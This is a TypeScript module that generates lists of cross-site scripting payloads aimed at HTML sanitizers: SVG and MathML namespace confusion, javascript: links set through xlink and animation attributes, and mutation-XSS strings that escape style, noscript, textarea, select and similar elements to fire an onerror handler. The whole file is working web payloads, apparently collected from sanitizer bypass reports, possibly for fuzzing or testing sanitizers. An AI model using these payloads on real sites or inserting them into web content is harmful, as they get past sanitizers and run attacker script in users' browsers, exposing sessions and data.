import { bodiesOf, type Deed } from './vector.ts';

/*
 * Bodies that are parsed one way and written another: elements of SVG and MathML, where the same words are text or markup by
 * their namespace, and raw text that ends where another parser does not see it end (mutation XSS, as DOMPurify's and Mozilla's
 * changelogs name the kinds).
 */

const fire = ({ js }: Deed): string => `<img src=x onerror="${js}">`;
const hidden = ({ js }: Deed): string => `&lt;img src=x onerror=${js}&gt;`;

export const foreign = bodiesOf('foreign', [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>&#102;etch${js.slice(5)}</script></svg>`,
  ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`,
  ({ js }) => `<svg><a href="javascript:${js}"><text y=9>字</text></a></svg>`,
  ({ js }) => `<svg><a xlink:href="javascript:${js}"><text y=9>字</text></a></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=9>字</text></a></svg>`,
  ({ js }) => `<svg><a><set attributeName=href to="javascript:${js}"/><text y=9>字</text></a></svg>`,
  ({ js }) => `<svg><set attributeName=onmouseover to="${js}"/></svg>`,
  ({ js }) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><animate onend="${js}" attributeName=x dur=1ms></svg>`,
  (deed) => `<svg><foreignObject>${fire(deed)}</foreignObject></svg>`,
  (deed) => `<svg><desc>${fire(deed)}</desc><title>${fire(deed)}</title></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js.replaceAll("'", '`')}'/></svg>#a"/></svg>`,
  ({ js }) => `<svg><handler type="application/ecmascript" event=load>${js}</handler></svg>`,
  ({ js }) => `<svg><discard onbegin="${js}"/></svg>`,
  ({ js }) => `<math><maction actiontype="statusline#http://a" xlink:href="javascript:${js}">字</maction></math>`,
  ({ js }) => `<math href="javascript:${js}"><mi>x</mi></math>`,
  ({ js }) => `<math><mi xlink:href="javascript:${js}" xlink:type=simple>x</mi></math>`,
  (deed) => `<math><annotation-xml encoding="text/html">${fire(deed)}</annotation-xml></math>`,
  (deed) =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml">${fire(deed)}</annotation-xml></semantics></math>`,
  ({ js }) => `<xml:namespace prefix=t><t:set attributeName=innerHTML to="<img src=x onerror=${js}>">`,
]);

/** Where HTML may stand within foreign elements (the standard's integration points), with the raw text elements that differ there. */
const points = [
  ['svg', 'title'],
  ['svg', 'desc'],
  ['svg', 'foreignObject'],
  ['math', 'mtext'],
  ['math', 'mi'],
  ['math', 'ms'],
] as const;
const raw = ['style', 'noscript', 'xmp', 'textarea'] as const;

export const namespaces = bodiesOf(
  'namespace',
  points.flatMap(([outer, point]) =>
    raw.map(
      (element) => (deed: Deed) =>
        `<${outer}><${point}><${outer}><${element}><a id="</${element}>${fire(deed).replaceAll('"', '')}"></${element}></${outer}></${point}></${outer}>`,
    ),
  ),
);

export const mutations = bodiesOf('mutation', [
  (deed) => `<noscript><p title="</noscript>${fire(deed).replaceAll('"', '')}"></noscript>`,
  (deed) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden(deed)}"></table></mtext></math>`,
  (deed) => `<form><math><mtext></form><form><mglyph><style></math>${fire(deed)}`,
  (deed) => `<svg></p><style><a id="</style>${fire(deed).replaceAll('"', '')}">`,
  (deed) => `<svg><p><style><g title="</style>${fire(deed).replaceAll('"', '')}"></svg>`,
  (deed) => `<math><mtext><mglyph><svg><mtext><style><path id="</style>${fire(deed).replaceAll('"', '')}">`,
  (deed) => `<math><mi><table><mi><mglyph><style><![CDATA[</style>${fire(deed)}]]></table></mi></math>`,
  (deed) =>
    `<table><caption><svg><title><table><caption></caption></table><style><a id="</style>${fire(deed).replaceAll('"', '')}"></title></svg></caption></table>`,
  (deed) =>
    `<select><template><style><!--</style><a rel="--></style></template></select>${fire(deed).replaceAll('"', '')}">`,
  (deed) => `<select><iframe></select>${fire(deed)}`,
  (deed) => `<xmp><p title="</xmp>${fire(deed).replaceAll('"', '')}"></xmp>`,
  (deed) => `<textarea><p title="</textarea>${fire(deed).replaceAll('"', '')}"></textarea>`,
  (deed) => `<title><p title="</title>${fire(deed).replaceAll('"', '')}"></title>`,
  (deed) => `<noembed><p title="</noembed>${fire(deed).replaceAll('"', '')}"></noembed>`,
  (deed) => `<noframes><p title="</noframes>${fire(deed).replaceAll('"', '')}"></noframes>`,
  (deed) => `<iframe><p title="</iframe>${fire(deed).replaceAll('"', '')}"></iframe>`,
  (deed) => `<listing>&lt;/listing>${hidden(deed)}</listing>`,
  (deed) => `<plaintext></plaintext>${fire(deed)}`,
  (deed) => `<p id="\`\`onerror=${deed.js}"><img src=x alt="\`\`onerror=${deed.js}"></p>`,
  (deed) => `<a href="x${'&#39;'.repeat(3)}" title='"><img src=x onerror=${deed.js.replaceAll("'", '`')}>'>字</a>`,
  (deed) => `<table><tr><td><a><table><tr><a>${fire(deed)}</table></a></td></tr></table>`,
  (deed) => `<b><p></b>${fire(deed)}</p>`,
  (deed) => `${'<div>'.repeat(600)}${fire(deed)}${'</div>'.repeat(600)}`,
]);
